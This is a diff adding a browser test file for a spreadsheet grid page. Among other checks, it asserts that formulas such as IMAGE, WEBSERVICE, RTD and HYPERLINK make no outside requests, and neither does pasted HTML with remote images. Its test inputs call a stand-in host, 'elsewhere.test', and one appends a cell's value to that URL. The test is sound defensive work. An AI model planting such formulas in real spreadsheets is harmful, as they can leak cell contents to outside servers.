@@ -1,0 +1,241 @@
+/**
+ * The grid in a page that has no policy: what it would ask for is seen, not stopped. And what is in sight there, which
+ * only a page can tell.
+ */
+import { readFileSync } from "node:fs";
+import { rm } from "node:fs/promises";
+import { fileURLToPath } from "node:url";
+import type { Browser, Page } from "playwright-core";
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
+import { oneSheet } from "../workbooks/package/build";
+import { buildPage } from "./build-page";
+import type { GridPage } from "./grid-page/page";
+import { launchBrowser } from "./launch";
+import { serveFolder, type Served } from "./serve";
+
+const SHOTS = fileURLToPath(new URL("shots/", import.meta.url));
+const FILES = fileURLToPath(new URL("../workbooks/files/", import.meta.url));
+
+declare const window: GridPage;
+
+let browser: Browser;
+let served: Served;
+let folder: string;
+let page: Page;
+let asked: string[];
+
+beforeAll(async () => {
+  [browser, folder] = await Promise.all([launchBrowser(), buildPage("grid-page")]);
+  served = await serveFolder(folder);
+});
+afterAll(async () => {
+  await browser?.close();
+  await served?.close();
+  if (folder) await rm(folder, { recursive: true });
+});
+
+beforeEach(async () => {
+  page = await browser.newPage({ viewport: { width: 900, height: 700 } });
+  asked = [];
+  page.on("request", (request) => asked.push(request.url()));
+  await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
+  await page.goto(served.url);
+  await page.waitForFunction(() => window.isReady);
+});
+afterEach(() => page.close());
+
+const open = (bytes: Uint8Array) =>
+  page.evaluate(async (text) => {
+    const opened = await window.grid.open(
+      Uint8Array.from(atob(text), (one) => one.charCodeAt(0)),
+      "x.xlsx",
+    );
+    return opened.outcome === "opened" ? opened.remarks : [opened.sentence];
+  }, Buffer.from(bytes).toString("base64"));
+
+/** What a cell's formula has been worked out to. */
+const shown = (address: string) =>
+  page.evaluate(
+    (address) => window.engine.api.getActiveWorkbook()!.getActiveSheet().getRange(address).getRawValue(),
+    address,
+  );
+
+const row = (number: number, ...cells: string[]) => `<row r="${number}">${cells.join("")}</row>`;
+const text = (ref: string, words: string) => `<c r="${ref}" t="inlineStr"><is><t>${words}</t></is></c>`;
+const formula = (ref: string, text: string) =>
+  `<c r="${ref}"><f>${text.replaceAll("&", "&amp;").replaceAll('"', "&quot;")}</f><v>0</v></c>`;
+
+const ELSEWHERE = "http://elsewhere.test/";
+
+describe("nothing in a cell asks for anything outside the page", () => {
+  const CALLS = [
+    `IMAGE("${ELSEWHERE}a.png")`,
+    `_xlfn.IMAGE("${ELSEWHERE}b.png","words",3,9,9)`,
+    `WEBSERVICE("${ELSEWHERE}c")`,
+    `HYPERLINK("${ELSEWHERE}d","d")`,
+    `FILTERXML(WEBSERVICE("${ELSEWHERE}e"),"//a")`,
+    `RTD("${ELSEWHERE}f","","a")`,
+    `ENCODEURL("${ELSEWHERE}g")`,
+    `LET(call,IMAGE("${ELSEWHERE}h.png"),call)`,
+    `HYPERLINK("${ELSEWHERE}"&A1,IMAGE("${ELSEWHERE}i.png"))`,
+  ];
+
+  it("in a file that is opened and worked out anew", async () => {
+    const rows = CALLS.map((call, at) => row(at + 1, text(`A${at + 1}`, "x"), formula(`B${at + 1}`, call)));
+    const last = CALLS.length + 1;
+    const links = `<hyperlinks><hyperlink ref="A1" location="${ELSEWHERE}"/></hyperlinks>`;
+    await open(oneSheet(`<sheetData>${rows.join("")}${row(last, formula(`A${last}`, "1+1"))}</sheetData>${links}`));
+    await page.evaluate((at) => {
+      const sheet = window.engine.api.getActiveWorkbook()!.getActiveSheet();
+      sheet.getRange(`A${at}`).setFormula("=2+2");
+      window.engine.api.getFormula().executeCalculation();
+    }, last);
+    await expect.poll(() => shown(`A${last}`)).toBe(4);
+    expect(asked.filter((url) => url.startsWith(ELSEWHERE))).toEqual([]);
+  });
+
+  it("typed into a cell", async () => {
+    await page.evaluate((calls) => {
+      const sheet = window.engine.api.getActiveWorkbook()!.getActiveSheet();
+      calls.forEach((call, at) => sheet.getRange(at, 1).setFormula(`=${call}`));
+      sheet.getRange(calls.length, 1).setFormula("=3+4");
+    }, CALLS);
+    await expect.poll(() => shown(`B${CALLS.length + 1}`)).toBe(7);
+    expect(await shown("B1")).toBe("#NAME?");
+    expect(asked.filter((url) => url.startsWith(ELSEWHERE))).toEqual([]);
+  });
+
+  it("pasted with pictures", async () => {
+    const html = `<table><tr><td><img src="${ELSEWHERE}k.png">one</td><td style="background:url(${ELSEWHERE}l.png)">two</td></tr></table>`;
+    await page.mouse.click(300, 300);
+    await page.evaluate(async (html) => {
+      const part = (type: string, content: string) => new Blob([content], { type });
+      const item = new ClipboardItem({
+        "text/html": part("text/html", html),
+        "text/plain": part("text/plain", "one\ttwo"),
+      });
+      await navigator.clipboard.write([item]);
+    }, html);
+    await page.keyboard.press("Control+V");
+    const held = () => page.evaluate(() => JSON.stringify(window.engine.api.getActiveWorkbook()!.save().sheets));
+    await expect.poll(held).toContain("two");
+    expect(asked.filter((url) => url.startsWith(ELSEWHERE))).toEqual([]);
+  });
+});
+
+describe("what is in sight", () => {
+  const visible = () =>
+    page.evaluate(() => {
+      const range = window.engine.api.getActiveWorkbook()!.getActiveSheet().getVisibleRange()!;
+      return [range.startRow, range.startColumn] as const;
+    });
+  const goTo = (top: number, left: number, rows = 1, columns = 1) =>
+    page.evaluate(
+      ([top, left, rows, columns]) => {
+        const sheet = window.engine.api.getActiveWorkbook()!.getActiveSheet().getSheetId();
+        return window.grid.workbook.reveal({ sheet, area: { top, left, rows, columns } });
+      },
+      [top, left, rows, columns] as const,
+    );
+
+  /** 400 rows, 40 columns; the header and the first column are held in place, or not. */
+  const list = (pane: string) => {
+    const letters = Array.from({ length: 40 }, (_, at) => (at < 26 ? "" : "A") + String.fromCharCode(65 + (at % 26)));
+    const rows = Array.from({ length: 400 }, (_, r) =>
+      row(
+        r + 1,
+        ...letters.map((letter) => text(letter + (r + 1), r === 0 ? `h${letter}` : r % 100 === 1 ? "keep" : "x")),
+      ),
+    );
+    return oneSheet(
+      `<sheetViews><sheetView workbookViewId="0">${pane}</sheetView></sheetViews><sheetData>${rows.join("")}</sheetData>`,
+    );
+  };
+  const HELD = `<pane xSplit="1" ySplit="1" topLeftCell="B2" activePane="bottomRight" state="frozen"/>`;
+
+  it.each([
+    ["held in place", HELD],
+    ["moving", ""],
+  ])("begins with the first row and column of a place, from wherever the view stood: %s", async (name, pane) => {
+    await open(list(pane));
+    const home = await visible();
+    await goTo(395, 38);
+    await expect.poll(async () => (await visible())[0]).toBeGreaterThan(300);
+    await expect.poll(async () => (await visible())[1]).toBeGreaterThan(25);
+    for (const [top, left, rows, columns] of [
+      [0, 0, 1, 1],
+      [1, 0, 399, 1],
+      [0, 2, 400, 1],
+    ] as const) {
+      await goTo(395, 38);
+      await goTo(top, left, rows, columns);
+      await expect.poll(visible).toEqual(home);
+    }
+    await goTo(1, 30);
+    await expect.poll(async () => (await visible())[0]).toBe(home[0]);
+    await page.screenshot({ path: `${SHOTS}in-sight-${name.replaceAll(" ", "-")}.png` });
+  });
+
+  it.each([
+    ["held in place", HELD],
+    ["moving", ""],
+  ])("is the first row that is shown, after showing only some: %s", async (_, pane) => {
+    await open(list(pane));
+    const home = await visible();
+    await goTo(395, 38);
+    const outcome = await page.evaluate(async () => {
+      const sheet = window.engine.api.getActiveWorkbook()!.getActiveSheet().getSheetId();
+      const area = { top: 0, left: 0, rows: 400, columns: 40 };
+      const step = {
+        kind: "showRows",
+        of: { list: { sheet, area } },
+        criteria: [{ column: 3, keeps: ["keep"] }],
+      } as const;
+      const watch = { report: () => undefined, signal: new AbortController().signal };
+      return (await window.grid.workbook.apply({ steps: [step], expects: [] }, watch)).outcome;
+    });
+    expect(outcome).toBe("done");
+    await expect.poll(visible).toEqual(home);
+    const selected = () => page.evaluate(async () => (await window.grid.workbook.overview()).selection?.area);
+    expect(await selected()).toEqual({ top: 1, left: 0, rows: 1, columns: 1 });
+  });
+});
+
+describe("the bar below the sheet", () => {
+  it("counts dates and does not add them up", async () => {
+    const dates = [46_143, 46_150].map((day, at) =>
+      row(at + 1, `<c r="A${at + 1}" s="1"><v>${day}</v></c>`, `<c r="B${at + 1}"><v>${at + 2}</v></c>`),
+    );
+    await open(oneSheet(dates.join("")));
+    const select = (columns: number, left = 0) =>
+      page.evaluate(
+        ([left, columns]) => {
+          window.engine.api.getActiveWorkbook()!.getActiveSheet().getRange(0, left, 2, columns).activate();
+        },
+        [left, columns] as const,
+      );
+    await select(1, 1);
+    await expect.poll(() => page.locator("body").innerText()).toMatch(/Sum:?\s*5/i);
+    await select(1);
+    await expect.poll(() => page.locator("body").innerText()).toMatch(/Count:?\s*2/i);
+    expect(await page.locator("body").innerText()).not.toMatch(/Sum|Average|922/);
+    await select(2);
+    await expect.poll(() => page.locator("body").innerText()).toMatch(/Count:?\s*4/i);
+    expect(await page.locator("body").innerText()).not.toMatch(/Sum|Average/);
+  });
+});
+
+/** Told apart by people, who look at the pictures in tests/browser/shots. */
+it.each(["plain-list-title-rows", "libreoffice-list", "table-with-totals"])(
+  "looks as the file says: headers, titles, arrows of %s",
+  async (name) => {
+    await open(new Uint8Array(readFileSync(`${FILES}${name}.xlsx`)));
+    const heights = () =>
+      page.evaluate(() => {
+        const sheet = window.engine.api.getActiveWorkbook()!.getActiveSheet();
+        return [0, 1, 5].map((row) => sheet.getRowHeight(row));
+      });
+    if (name === "plain-list-title-rows") expect(await heights()).toEqual([expect.closeTo(30, -1), 24, 40]);
+    await page.screenshot({ path: `${SHOTS}as-in-the-file-${name}.png` });
+  },
+);
